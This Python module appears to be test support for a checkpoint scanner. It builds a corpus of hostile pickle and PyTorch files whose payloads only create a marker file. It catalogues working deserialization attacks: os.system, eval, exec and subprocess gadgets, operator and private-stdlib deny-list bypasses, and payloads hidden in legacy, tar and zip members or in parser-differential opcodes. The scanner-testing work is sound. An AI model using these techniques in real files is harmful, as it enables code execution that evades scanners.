"""A corpus of hostile checkpoints, built on demand in a scratch folder.

Every payload is harmless: if it ran, it would only create the marker file ``PWNED-<case>`` in
the corpus folder. ``live`` cases are proven real by the oracle test (``pickle.loads`` /
``torch.load(weights_only=False)`` in a child process does create the marker); the others name a
global that cannot run here (``nt.system`` on Linux) or that we do not want to run (pip).

Used by the hostile tests and by ``fuzz/compare_scanners.py``; imports torch only inside the
builders that need a real torch archive.
"""

from __future__ import annotations

import io
import marshal
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MAGIC = 0x1950A86A20F9469CFC6C


# ----- a tiny pickle assembler ---------------------------------------------------------------
def glob(module: str, name: str) -> bytes:
    """Protocol-0 GLOBAL opcode."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def uni(s: str) -> bytes:
    """BINUNICODE."""
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def sglob(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4)."""
    return uni(module) + uni(name) + b"\x93"


def raw(b: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(b)) + b


def i32(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) through REDUCE."""
    return func + tup(*args) + b"R"


def pkl(body: bytes, proto: int = 2) -> bytes:
    return b"\x80" + bytes([proto]) + body + b"."


def kwcall(func: bytes, kwargs: dict[str, bytes], *args: bytes) -> bytes:
    """func(*args, **kwargs) through functools.partial (pickle has no keyword REDUCE)."""
    body = b"}" + b"(" + b"".join(uni(k) + v for k, v in kwargs.items()) + b"u"
    partial = glob("functools", "partial") + tup(func) + b"R" + tup(func, tup(*args), body, b"N") + b"b"
    return partial + b")R"


# ----- payload text ----------------------------------------------------------------------------
def marker(folder: Path, case: str) -> Path:
    return folder / f"PWNED-{case}"


def shell(folder: Path, case: str) -> str:
    return f"touch '{marker(folder, case)}'"


def pycode(folder: Path, case: str) -> str:
    return f"open({str(marker(folder, case))!r}, 'w').close()"


def os_system_pickle(folder: Path, case: str, proto: int = 2) -> bytes:
    return pkl(call(glob("os", "system"), uni(shell(folder, case))), proto)


# ----- torch containers, built by hand so no torch is needed to make them ----------------------
def torch_zip(members: dict[str, bytes], *, order: list[str] | None = None) -> bytes:
    """A torch.save-shaped zip (stored, no compression) holding ``members``."""
    base = {"archive/byteorder": b"little", "archive/version": b"3\n",
            "archive/.data/serialization_id": b"1234567890123456789012345678901234567890"}
    allm = {"archive/data.pkl": members.pop("archive/data.pkl", pickle.dumps({}, 2)), **base, **members}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name in order or list(allm):
            z.writestr(name, allm[name])
    return buf.getvalue()


def legacy_stream(pickles: list[bytes]) -> bytes:
    """torch's pre-1.6 stream: magic, protocol, sys info, data, storage keys (no storages)."""
    return b"".join(pickles)


def legacy_parts() -> list[bytes]:
    sys_info = {"protocol_version": 1001, "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 8}}
    return [pickle.dumps(MAGIC, 2), pickle.dumps(1001, 2), pickle.dumps(sys_info, 2),
            pickle.dumps({"w": 1}, 2), pickle.dumps([], 2)]


# ----- the cases ---------------------------------------------------------------------------------
@dataclass
class Case:
    """One hostile file: how to build it, which globals scan must name, whether it is live."""

    name: str
    filename: str
    build: Callable[[Path, str], bytes]
    names: tuple[str, ...]
    live: str | None = None  # "pickle" or "torch": the loader whose run proves the payload real
    readable: bool = True  # False: the reader must refuse it (never "clean")
    setup: Callable[[Path, str], None] | None = None
    notes: str = ""


class _Reduce:
    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, ...]:
        return self.func, self.args


def _real_reduce(folder: Path, case: str) -> bytes:
    import os

    return pickle.dumps(_Reduce(os.system, shell(folder, case)), protocol=4)


def _write_script(folder: Path, case: str) -> None:
    (folder / f"script_{case}.py").write_text(pycode(folder, case) + "\n")


def _write_module(folder: Path, case: str) -> None:
    (folder / f"ckpttool_hostile_{case}.py").write_text(pycode(folder, case) + "\n")


def _build_setstate(cls: tuple[str, str]) -> Callable[[Path, str], bytes]:
    def build(folder: Path, case: str) -> bytes:
        obj = glob(*cls) + b")R"
        evil = b"}" + uni("__setstate__") + glob("os", "system") + b"s"
        return pkl(obj + evil + b"b" + uni(shell(folder, case)) + b"b")
    return build


def _memo_trick(folder: Path, case: str) -> bytes:
    # memo slot 1 first holds OrderedDict, then is overwritten with os.system and fetched far later
    body = (glob("collections", "OrderedDict") + b"q\x01" + b"0" + glob("os", "system") + b"q\x01" + b"0"
            + b"]" + b"0" + b"h\x01" + tup(uni(shell(folder, case))) + b"R")
    return pkl(body)


def _inner_torch_zip(folder: Path, case: str) -> bytes:
    return torch_zip({"archive/data.pkl": os_system_pickle(folder, case)})


def _legacy_with(index: int, payload: Callable[[Path, str], bytes]) -> Callable[[Path, str], bytes]:
    def build(folder: Path, case: str) -> bytes:
        parts = legacy_parts()
        parts[index] = payload(folder, case)
        return legacy_stream(parts)
    return build


def _zip_member(name: str) -> Callable[[Path, str], bytes]:
    def build(folder: Path, case: str) -> bytes:
        return torch_zip({name: os_system_pickle(folder, case)})
    return build


def torch_tar(members: dict[str, bytes]) -> bytes:
    """torch's pre-0.4 tar format: sys_info, storages, tensors and pickle members."""
    import tarfile

    base = {"sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2),
            "storages": pickle.dumps(0, 2) + pickle.dumps([], 2), "tensors": pickle.dumps(0, 2),
            "pickle": pickle.dumps({"w": 1}, 2)}
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in {**base, **members}.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _tar_member(name: str) -> Callable[[Path, str], bytes]:
    def build(folder: Path, case: str) -> bytes:
        payload = os_system_pickle(folder, case)
        if name == "storages":  # os.system returns 0: a valid storage count, then the views list
            payload += pickle.dumps([], 2)
        return torch_tar({name: payload})
    return build


def _name_mismatch(folder: Path, case: str) -> bytes:
    data = bytearray(torch_zip({"archive/data.pkl": os_system_pickle(folder, case)}))
    at = data.find(b"archive/data.pkl")  # the first occurrence is the local header's name
    assert data[at - 30:at - 26] == b"PK\x03\x04"
    data[at:at + 16] = b"archive/dat4.pkl"
    return bytes(data)


def _duplicate(first_evil: bool) -> Callable[[Path, str], bytes]:
    def build(folder: Path, case: str) -> bytes:
        evil, clean = os_system_pickle(folder, case), pickle.dumps({"w": 1}, 2)
        buf = io.BytesIO()
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            with zipfile.ZipFile(buf, "w") as z:
                z.writestr("archive/data.pkl", evil if first_evil else clean)
                z.writestr("archive/byteorder", b"little")
                z.writestr("archive/data.pkl", clean if first_evil else evil)
        return buf.getvalue()
    return build


def _torchscript_constants(folder: Path, case: str) -> bytes:
    import torch

    class Tiny(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.lin = torch.nn.Linear(2, 2)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.lin(x) * 2.5

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(Tiny()), buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("/constants.pkl"):
                data = os_system_pickle(folder, case)
            z.writestr(info.filename, data)
    return out.getvalue()


def _stack_global_nonstring(folder: Path, case: str) -> bytes:
    # the payload runs first; then STACK_GLOBAL gets ints (C pickle: "STACK_GLOBAL requires str")
    return pkl(call(glob("os", "system"), uni(shell(folder, case))) + b"0" + i32(1) + i32(2) + b"\x93"
               + b"N", proto=4)


def _frame_straddle(folder: Path, case: str) -> bytes:
    # a FRAME that ends inside a BINUNICODE: pickletools/pickle.loads see another opcode stream
    payload = call(glob("os", "system"), uni(shell(folder, case)))
    body = uni("x" * 8) + payload
    frame_len = 3  # ends inside the first BINUNICODE's length field
    return b"\x80\x04" + b"\x95" + struct.pack("<Q", frame_len) + body + b"."


def _ext_opcode(folder: Path, case: str) -> bytes:
    return pkl(b"\x82\x07" + tup(uni(shell(folder, case))) + b"R")


def _nested_pickle(module: str) -> Callable[[Path, str], bytes]:
    def build(folder: Path, case: str) -> bytes:
        return pkl(call(glob(module, "loads"), raw(os_system_pickle(folder, case))))
    return build


def _marshal(folder: Path, case: str) -> bytes:
    code = marshal.dumps(compile(pycode(folder, case), "<payload>", "exec"))
    return pkl(call(glob("builtins", "exec"), call(glob("marshal", "loads"), raw(code))))


def _simple(module: str, name: str, arg: str = "shell", proto: int = 2,
            stack: bool = False) -> Callable[[Path, str], bytes]:
    def build(folder: Path, case: str) -> bytes:
        text = shell(folder, case) if arg == "shell" else pycode(folder, case)
        g = sglob(module, name) if stack else glob(module, name)
        return pkl(call(g, uni(text)), proto)
    return build


def _argv(module: str, name: str, proto: int = 2) -> Callable[[Path, str], bytes]:
    """module.name(["touch", marker]) — subprocess-style argument vectors."""
    def build(folder: Path, case: str) -> bytes:
        argv = b"]" + b"(" + uni("touch") + uni(str(marker(folder, case))) + b"e"
        return pkl(call(glob(module, name), argv), proto)
    return build


def _cases() -> list[Case]:
    b, o, cmd = "builtins", "operator", shell
    return [
        Case("os_system", "os_system.pkl", _simple("os", "system"), ("os.system",), "pickle"),
        Case("posix_system_reduce", "posix_system.pkl", _real_reduce, ("posix.system",), "pickle",
             notes="what pickle.dumps writes for a class whose __reduce__ returns os.system"),
        Case("nt_system", "nt_system.pkl", _simple("nt", "system"), ("nt.system",)),
        Case("builtins_eval", "eval.pkl", _simple(b, "eval", "py"), ("builtins.eval",), "pickle"),
        Case("builtins_exec", "exec.pkl", _simple(b, "exec", "py"), ("builtins.exec",), "pickle"),
        Case("py2_builtin_eval", "py2_eval.pkl", _simple("__builtin__", "eval", "py"), ("builtins.eval",),
             "pickle", notes="Python 2 module name, mapped to builtins by pickle for protocol < 3"),
        Case("builtins_compile_exec", "compile.pkl",
             lambda f, c: pkl(call(glob(b, "exec"), call(glob(b, "compile"), uni(pycode(f, c)), uni("<x>"),
                                                           uni("exec")))),
             ("builtins.compile", "builtins.exec"), "pickle"),
        Case("getattr_import_chain", "getattr_import.pkl",
             lambda f, c: pkl(call(call(glob(b, "getattr"), call(glob(b, "__import__"), uni("os")), uni("system")),
                                   uni(cmd(f, c)))),
             ("builtins.getattr", "builtins.__import__"), "pickle"),
        Case("subprocess_popen", "popen.pkl", _argv("subprocess", "Popen"), ("subprocess.Popen",), "pickle"),
        Case("subprocess_run", "run.pkl", _argv("subprocess", "run"), ("subprocess.run",), "pickle"),
        Case("subprocess_check_output", "check_output.pkl", _argv("subprocess", "check_output"),
             ("subprocess.check_output",), "pickle"),
        Case("runpy_run_path", "runpy.pkl",
             lambda f, c: pkl(call(glob("runpy", "run_path"), uni(str(f / f"script_{c}.py")))),
             ("runpy.run_path",), "pickle", setup=_write_script),
        Case("importlib_import_module", "import_module.pkl",
             lambda f, c: pkl(call(glob("importlib", "import_module"), uni(f"ckpttool_hostile_{c}"))),
             ("importlib.import_module",), "pickle", setup=_write_module),
        Case("pip_main", "pip_main.pkl",
             lambda f, c: pkl(call(sglob("pip._internal.cli.main", "main"), b"]"), proto=4),
             ("pip._internal.cli.main.main",), notes="not run: it would start pip"),
        Case("pickle_loads_nested", "pickle_loads.pkl", _nested_pickle("pickle"), ("pickle.loads",), "pickle"),
        Case("c_pickle_loads_nested", "c_pickle_loads.pkl", _nested_pickle("_pickle"), ("_pickle.loads",),
             "pickle"),
        Case("marshal_loads_exec", "marshal.pkl", _marshal, ("marshal.loads", "builtins.exec"), "pickle"),
        Case("functools_partial", "partial.pkl",
             lambda f, c: pkl(call(glob("functools", "partial"), glob("os", "system"), uni(cmd(f, c))) + b")R"),
             ("functools.partial", "os.system"), "pickle"),
        Case("operator_attrgetter", "attrgetter.pkl",
             lambda f, c: pkl(call(call(call(glob(o, "attrgetter"), uni("system")),
                                        call(glob(b, "__import__"), uni("os"))), uni(cmd(f, c)))),
             ("operator.attrgetter", "builtins.__import__"), "pickle"),
        Case("operator_methodcaller", "methodcaller.pkl",
             lambda f, c: pkl(call(call(glob(o, "methodcaller"), uni("system"), uni(cmd(f, c))),
                                   call(glob(b, "__import__"), uni("os")))),
             ("operator.methodcaller", "builtins.__import__"), "pickle"),
        Case("torch_import_dotted_name", "import_dotted.pkl",
             lambda f, c: pkl(call(call(glob("torch._utils", "_import_dotted_name"), uni("os.system")),
                                   uni(cmd(f, c)))),
             ("torch._utils._import_dotted_name",), "pickle",
             notes="a torch._utils helper that imports and walks any dotted name"),
        Case("torch_rebuild_from_type_v2", "rebuild_from_type.pkl",
             lambda f, c: pkl(call(glob("torch._tensor", "_rebuild_from_type_v2"), glob("os", "system"),
                                   glob("torch", "Tensor"), tup(uni(cmd(f, c))), b"N")),
             ("os.system",), "pickle", notes="an allow-listed torch rebuild helper that calls its first argument"),
        Case("torch_storage_load_from_bytes", "load_from_bytes.pkl",
             lambda f, c: pkl(call(glob("torch.storage", "_load_from_bytes"), raw(_inner_torch_zip(f, c)))),
             ("torch.storage._load_from_bytes",), "pickle",
             notes="a nested torch.load(weights_only=False) of bytes inside the file"),
        Case("torch_load_nested", "torch_load.pkl",
             lambda f, c: pkl(kwcall(glob("torch", "load"), {"weights_only": b"\x89"},
                                     call(glob("io", "BytesIO"), raw(_inner_torch_zip(f, c))))),
             ("torch.load", "io.BytesIO", "functools.partial"), "pickle"),
        Case("numpy_testing_runstring", "runstring.pkl",
             lambda f, c: pkl(call(glob("numpy.testing._private.utils", "runstring"), uni(pycode(f, c)), b"}")),
             ("numpy.testing._private.utils.runstring",), "pickle"),
        Case("build_setstate_namespace", "setstate_namespace.pkl", _build_setstate(("argparse", "Namespace")),
             ("os.system",), "pickle",
             notes="BUILD puts __setstate__=os.system in the instance dict; a second BUILD calls it"),
        Case("build_setstate_ordereddict", "setstate_odict.pkl",
             _build_setstate(("collections", "OrderedDict")), ("os.system",), "pickle"),
        Case("inst_protocol0", "inst.pkl",
             lambda f, c: b"(" + uni(cmd(f, c)) + b"ios\nsystem\n.", ("os.system",), "pickle"),
        Case("obj_protocol1", "obj.pkl",
             lambda f, c: b"(" + glob("os", "system") + uni(cmd(f, c)) + b"o.", ("os.system",), "pickle"),
        Case("memo_overwrite", "memo.pkl", _memo_trick, ("os.system",), "pickle"),
        Case("dotted_stack_global_pathlib", "dotted_pathlib.pkl",
             _simple("pathlib", "os.system", proto=4, stack=True), ("pathlib.os.system",), "pickle"),
        Case("dotted_stack_global_private_alias", "dotted_argparse.pkl",
             lambda f, c: pkl(call(sglob("argparse", "_os.execvp"), uni("touch"),
                                   b"]" + b"(" + uni("touch") + uni(str(marker(f, c))) + b"e"), proto=4),
             ("argparse._os.execvp",),
             notes="walks to os through a private alias; not run (execvp would replace the loader)"),
        Case("dotted_stack_global_torch", "dotted_torch.pkl",
             _simple("torch", "serialization.os.system", proto=4, stack=True),
             ("torch.serialization.os.system",), "pickle"),
        Case("uuid_command_stdout", "uuid_cmd.pkl",
             lambda f, c: pkl(call(glob("uuid", "_get_command_stdout"), uni("touch"), uni(str(marker(f, c))))),
             ("uuid._get_command_stdout",), "pickle",
             notes="a private stdlib helper that runs a program: the family of deny-list bypasses"),
        Case("osx_support_read_output", "osx_support.pkl", _simple("_osx_support", "_read_output"),
             ("_osx_support._read_output",), "pickle"),
        Case("timeit_timeit", "timeit.pkl",
             lambda f, c: pkl(call(glob("timeit", "timeit"), uni(pycode(f, c)), uni("pass"),
                                   glob("time", "perf_counter"), i32(1))),
             ("timeit.timeit",), "pickle"),
        Case("cprofile_run", "cprofile.pkl", _simple("cProfile", "run", "py"), ("cProfile.run",), "pickle"),
        Case("ext_opcode", "ext.pkl", _ext_opcode, ("copyreg._inverted_registry",),
             notes="EXT1: a global looked up in copyreg's extension registry"),
        # ---- payloads hidden where a partial reader would not look ---------------------------------------
        Case("legacy_payload_in_protocol_pickle", "legacy_p2.pt", _legacy_with(1, os_system_pickle),
             ("os.system",), "torch", readable=False, notes="second pickle of the legacy stream"),
        Case("legacy_payload_in_sys_info", "legacy_p3.pt", _legacy_with(2, os_system_pickle), ("os.system",),
             "torch"),
        Case("legacy_payload_in_data_pickle", "legacy_p4.pt", _legacy_with(3, os_system_pickle), ("os.system",),
             "torch"),
        Case("legacy_payload_in_keys_pickle", "legacy_p5.pt", _legacy_with(4, os_system_pickle), ("os.system",),
             "torch", readable=False),
        Case("legacy_magic_by_eval", "legacy_eval_magic.pt",
             lambda f, c: pkl(call(glob(b, "eval"), uni(f"({pycode(f, c)}, {MAGIC})[1]"))) + b"".join(
                 legacy_parts()[1:]),
             ("builtins.eval",), "torch", notes="the magic number computed by eval"),
        Case("legacy_magic_in_protocol_4", "legacy_magic_p4.pt",
             lambda f, c: b"".join([pickle.dumps(MAGIC, protocol=4), *legacy_parts()[1:3], os_system_pickle(f, c),
                                    legacy_parts()[4]]),
             ("os.system",), "torch",
             notes="torch.load takes any first pickle equal to the magic number; a sniffer keyed on the protocol-2 "
                   "bytes saw a plain pickle of one int"),
        Case("payload_after_the_first_stop", "trailing.pkl",
             lambda f, c: pickle.dumps({"epoch": 1}, 2) + os_system_pickle(f, c), ("os.system",),
             notes="a second pickle after STOP, read by tools that load a stream of pickles"),
        Case("tar_payload_in_pickle_member", "tar_pickle.pt", _tar_member("pickle"), ("os.system",), "torch",
             notes="torch's pre-0.4 tar format, which scanners reading only zips and streams skip"),
        Case("tar_payload_in_storages_member", "tar_storages.pt", _tar_member("storages"), ("os.system",), "torch",
             readable=False, notes="the payload returns 0, a valid storage count for torch; ckpttool refuses it"),
        Case("zip_payload_in_data_pkl", "zip_data.pt", _zip_member("archive/data.pkl"), ("os.system",), "torch"),
        Case("zip_payload_in_serialization_id", "zip_serial.pt", _zip_member("archive/.data/serialization_id"),
             ("os.system",), notes="a pickle in a member torch reads as text"),
        Case("zip_payload_in_other_data_pkl", "zip_other.pt", _zip_member("other/data.pkl"), ("os.system",)),
        Case("zip_payload_in_extra_member", "zip_extra.pt", _zip_member("archive/extra/state"), ("os.system",)),
        Case("zip_payload_then_garbage_in_extra_member", "zip_extra_garbage.pt",
             lambda f, c: torch_zip({"archive/extra/blob": os_system_pickle(f, c)[:-1] + b"\xff\xff"}),
             ("os.system",), notes="the payload is reported although the member does not parse"),
        Case("torchscript_constants_pkl", "script_constants.pt", _torchscript_constants, ("os.system",)),
        Case("zip_local_name_mismatch", "zip_mismatch.pt", _name_mismatch, ("os.system",), "torch",
             notes="local header says archive/dat4.pkl; Python's zipfile refuses, torch reads it"),
        Case("zip_duplicate_evil_first", "zip_dup1.pt", _duplicate(True), (), readable=False,
             notes="torch reads the first data.pkl (evil), zipfile the last (clean)"),
        Case("zip_duplicate_evil_last", "zip_dup2.pt", _duplicate(False), (), readable=False),
        # ---- opcodes the C unpickler and a Python reader treat differently -------------------------------
        Case("stack_global_non_string", "stack_global_ints.pkl", _stack_global_nonstring, ("os.system",),
             "pickle", readable=False, notes="payload, then a STACK_GLOBAL of ints"),
        Case("frame_straddle", "frame_straddle.pkl", _frame_straddle, (), "pickle", readable=False,
             notes="an opcode that straddles the end of its FRAME"),
    ]


CASES: list[Case] = _cases()


def build_corpus(folder: Path, cases: list[Case] | None = None) -> dict[str, Path]:
    """Write every case into ``folder``; returns case name -> file."""
    folder.mkdir(parents=True, exist_ok=True)
    out: dict[str, Path] = {}
    for case in cases or CASES:
        if case.setup is not None:
            case.setup(folder, case.name)
        path = folder / case.filename
        path.write_bytes(case.build(folder, case.name))
        out[case.name] = path
    return out
